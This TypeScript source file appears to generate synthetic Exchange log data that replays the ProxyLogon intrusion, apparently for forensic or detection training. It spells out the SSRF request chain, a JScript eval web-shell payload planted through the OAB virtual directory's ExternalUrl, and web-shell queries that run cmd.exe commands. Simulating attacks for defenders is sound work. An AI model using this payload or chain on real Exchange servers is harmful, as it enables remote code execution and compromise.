import { type Ctx, type Scheduled, canary, utc } from './common.js';
import { newRequest } from './request.js';
import type { Rng } from './prng.js';
import { EXTERNAL_HOST, type Server, type World } from './world.js';

// The ProxyLogon chain on EX01 as the real incident in exchange-evidence.md §1.1, §1.3 and §1.4
// shows it (SSRF through /ecp/y.js with X-BEResource, proxyLogon.ecp 241, the OAB virtual
// directory's ExternalUrl set to a script and reset to a file), then the web shell in use.

export interface AttackPlan {
  attackerA: string;
  attackerB: string;
  shellName: string;
  webShellPath: string;
  webShellUrl: string;
  param: string;
  ssrfTime: number;
  webShellWrittenTime: number;
  events: Scheduled[];
}

const PYTHON = 'python-requests/2.25.1';
const EWS_CLIENT = 'ExchangeServicesClient/0.0.0.0';
const CHOPPER_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:78.0) Gecko/20100101 Firefox/78.0';

function letters(rng: Rng, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += 'abcdefghijklmnopqrstuvwxyz'[rng.int(26)] ?? 'a';
  return s;
}

export function planAttack(rng: Rng, world: World): AttackPlan {
  const attackerA = `203.0.113.${rng.range(20, 240)}`;
  const attackerB = `198.51.100.${rng.range(20, 240)}`;
  const shellName = `${letters(rng, rng.range(6, 10))}.aspx`;
  const param = `${letters(rng, 3)}${rng.range(100000, 999999)}`;
  const webShellPath = `C:\\inetpub\\wwwroot\\aspnet_client\\${shellName}`;
  const webShellUrl = `/aspnet_client/${shellName}`;
  const c = canary(rng);
  const vdir = world.oabVdirGuid.EX01;
  const newVdir = rng.guid();
  const host = `EX01.corp.local`;
  const events: Scheduled[] = [];
  const at = (time: number, apply: (ctx: Ctx, server: Server) => void): void => {
    events.push({ server: 'EX01', time, apply });
  };

  const ssrfTime = utc(3, 3, 2, 1, 7, rng.range(0, 999));
  const t = (secondsAfter: number): number => ssrfTime + secondsAfter * 1000 + rng.range(0, 900);

  // Reconnaissance: the OWA front page answers with a redirect to the logon form.
  at(ssrfTime - 146_000, (ctx, s) => {
    const r = newRequest(s, ssrfTime - 146_000, 'Owa', ctx.rng.guid());
    Object.assign(r, {
      urlHost: EXTERNAL_HOST,
      urlStem: '/owa/',
      userAgent: PYTHON,
      clientIp: attackerA,
      status: 302,
      proxied: false,
      targetServer: '',
      routingType: '',
      genericInfoExtra: 'NoCookies=302 - GET/E14AuthPost;',
      duration: 1,
    });
    ctx.batch.proxy(r);
  });

  // The back-end path rides in the X-BEResource cookie, canary first: Microsoft's 27065 query
  // (`ServerInfo~*/*Reset*VirtualDirectory#`) expects the schema at the end, before the '#'.
  const ssrf = (time: number, method: string, backend: string, status: number, ua: string, ecp?: string[]): void => {
    at(time, (ctx, s) => {
      const r = newRequest(s, time, 'Ecp', ctx.rng.guid());
      Object.assign(r, {
        method,
        urlHost: EXTERNAL_HOST,
        urlStem: '/ecp/y.js',
        anchorMailbox: `ServerInfo~a]@${host}:444${backend}#`,
        userAgent: ua,
        clientIp: attackerA,
        status,
        targetServer: host,
        routingHint: 'X-BEResource-Cookie',
        requestBytes: method === 'POST' ? ctx.rng.range(300, 1400) : 0,
        responseBytes: ctx.rng.range(200, 3000),
        duration: ctx.rng.range(20, 400),
      });
      for (const [i, cmd] of (ecp ?? []).entries()) {
        ctx.batch.ecp({
          time: time - 40 + i * 9,
          cmd,
          url: backend.replace(/\?#$/, ''),
          durationMs: ctx.rng.range(30, 900),
          sessionId: ctx.rng.guid(),
          activityId: ctx.rng.guid(),
          userSessionId: ctx.rng.guid(),
        });
      }
      ctx.batch.proxy(r);
    });
  };

  const payload = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["${param}"],"unsafe");}</script>`;
  const webShellWrittenTime = t(17);
  ssrf(ssrfTime, 'POST', '/autodiscover/autodiscover.xml?', 200, EWS_CLIENT);
  ssrf(t(2), 'POST', '/mapi/emsmdb?', 200, PYTHON);
  ssrf(t(5), 'POST', '/ecp/proxyLogon.ecp?', 241, PYTHON);
  ssrf(t(8), 'GET', `/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=${c}&schema=OABVirtualDirectory`, 200, PYTHON, [
    `Get-OabVirtualDirectory.Identity=''${vdir}''`,
  ]);
  ssrf(t(12), 'POST', `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${c}&schema=OABVirtualDirectory`, 200, PYTHON, [
    `Set-OabVirtualDirectory.ExternalUrl=''${payload}''.Identity=''${vdir}''`,
  ]);
  ssrf(webShellWrittenTime, 'POST', `/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=${c}&schema=ResetOABVirtualDirectory`, 200, PYTHON, [
    `Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''${vdir}''`,
    `Remove-OabVirtualDirectory.Identity=''${vdir}''.Confirm=False`,
    `New-OabVirtualDirectory.WebSiteName=''Default Web Site''.Server=''EX01''.Identity=''${newVdir}''`,
  ]);
  at(webShellWrittenTime + 1200, (ctx) => {
    ctx.batch.oab({
      time: webShellWrittenTime + 1200,
      level: 'Error',
      threadId: 37,
      message: `Download failed and temporary file '${webShellPath}' needs to be removed.`,
    });
  });

  // The web shell in use: IIS alone sees it (aspnet_client is not behind CAFE), and never the commands.
  const shell = (time: number, ip: string, method: 'GET' | 'POST', query: string, ua: string): void => {
    at(time, (ctx, s) => {
      ctx.batch.iis({
        time,
        serverIp: s.ip,
        method,
        stem: webShellUrl,
        query,
        port: 443,
        user: '',
        clientIp: ip,
        userAgent: ua,
        referer: '',
        status: 200,
        subStatus: 0,
        win32Status: 0,
        timeTaken: ctx.rng.range(15, 2500),
      });
    });
  };
  shell(t(52), attackerA, 'GET', '', PYTHON);
  shell(t(61), attackerA, 'GET', 'cmd=whoami', PYTHON);
  const exec = (cmd: string): string => `${param}=Response.Write(new%20ActiveXObject(%22WScript.Shell%22).Exec(%22cmd.exe%20/c%20${cmd}%22).StdOut.ReadAll())`;
  shell(t(75), attackerA, 'GET', exec('whoami'), PYTHON);
  shell(t(94), attackerA, 'GET', 'cmd=ipconfig%20/all', PYTHON);
  for (let i = 0; i < 9; i++) shell(t(120 + i * rng.range(25, 90)), attackerA, 'POST', '', PYTHON);
  // The second address takes over over the following days, as in the real incident.
  const days: readonly [number, number][] = [
    [3, 4],
    [3, 5],
    [3, 5],
    [4, 1],
    [5, 22],
    [6, 3],
    [7, 14],
    [8, 2],
  ];
  for (const [day, hour] of days) {
    const start = utc(3, day, hour, rng.range(0, 50), rng.range(0, 59), rng.range(0, 999));
    const n = rng.range(2, 6);
    for (let i = 0; i < n; i++) shell(start + i * rng.range(4_000, 60_000), attackerB, 'POST', '', CHOPPER_UA);
  }
  shell(utc(3, 5, 22, 51, 9, 311), attackerB, 'GET', exec('net%20group%20%22Exchange%20Trusted%20Subsystem%22%20/domain'), CHOPPER_UA);
  shell(utc(3, 6, 3, 12, 40, 77), attackerB, 'GET', 'cmd=tasklist', CHOPPER_UA);
  shell(utc(3, 7, 14, 2, 13, 905), attackerA, 'POST', '', PYTHON);

  return {
    attackerA,
    attackerB,
    shellName,
    webShellPath,
    webShellUrl,
    param,
    ssrfTime,
    webShellWrittenTime,
    events,
  };
}
